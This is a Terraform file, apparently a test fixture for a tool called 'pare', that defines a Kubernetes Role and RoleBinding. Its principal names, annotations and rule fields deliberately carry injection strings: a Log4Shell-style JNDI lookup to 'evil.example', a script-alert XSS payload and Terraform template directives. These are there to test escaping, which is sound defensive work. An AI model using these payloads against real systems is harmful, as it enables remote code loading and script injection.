resource "kubernetes_role_v1" "default_pare_oidc___jndi_ldap__s_sevil_example_sx___script_alert_1___sscript___q_d8661a5addc6cfd7" {
  metadata {
    name      = "pare:oidc:$${jndi:ldap:~s~sevil.example~sx} <script>alert(1)<~sscript> \"q\" 'a' ~p{ if true }\nnext line: #x & *y !z"
    namespace = "default"
    labels = {
      "app.kubernetes.io/managed-by" = "pare"
    }
    annotations = {
      "pare.dev/evidence"  = "[{\"rule\":0,\"actions\":[{\"action\":\"get widgets\\\"x.$${jndi}.example.com\",\"count\":1,\"first\":\"2026-01-02T02:04:05Z\",\"last\":\"2026-03-30T12:00:00Z\",\"samples\":[\"k8s:$${x}\",\"k8s:<script>\",\"k8s:\\\"q\\\"\\n\"]}]}]"
      "pare.dev/principal" = "oidc:$${jndi:ldap://evil.example/x} <script>alert(1)</script> \"q\" 'a' %%{ if true }\nnext line: #x & *y !z"
      "pare.dev/window"    = "2026-01-01T00:00:00Z/2026-03-31T23:59:59Z"
    }
  }

  rule {
    api_groups     = ["$${jndi}.example.com"]
    resources      = ["widgets\"x"]
    resource_names = ["$${jndi:ldap://evil/x}", "<script>", "a\"b'c", "line\nbreak", "%%{ for x in y }", "ünïcödé 日本語 😀"]
    verbs          = ["get"]
  }
}

resource "kubernetes_role_binding_v1" "default_pare_oidc___jndi_ldap__s_sevil_example_sx___script_alert_1___sscript___q_d8661a5addc6cfd7" {
  metadata {
    name      = "pare:oidc:$${jndi:ldap:~s~sevil.example~sx} <script>alert(1)<~sscript> \"q\" 'a' ~p{ if true }\nnext line: #x & *y !z"
    namespace = "default"
    labels = {
      "app.kubernetes.io/managed-by" = "pare"
    }
    annotations = {
      "pare.dev/principal" = "oidc:$${jndi:ldap://evil.example/x} <script>alert(1)</script> \"q\" 'a' %%{ if true }\nnext line: #x & *y !z"
      "pare.dev/window"    = "2026-01-01T00:00:00Z/2026-03-31T23:59:59Z"
    }
  }

  role_ref {
    api_group = "rbac.authorization.k8s.io"
    kind      = "Role"
    name      = kubernetes_role_v1.default_pare_oidc___jndi_ldap__s_sevil_example_sx___script_alert_1___sscript___q_d8661a5addc6cfd7.metadata[0].name
  }

  subject {
    kind      = "User"
    name      = "oidc:$${jndi:ldap://evil.example/x} <script>alert(1)</script> \"q\" 'a' %%{ if true }\nnext line: #x & *y !z"
    namespace = ""
    api_group = "rbac.authorization.k8s.io"
  }
}
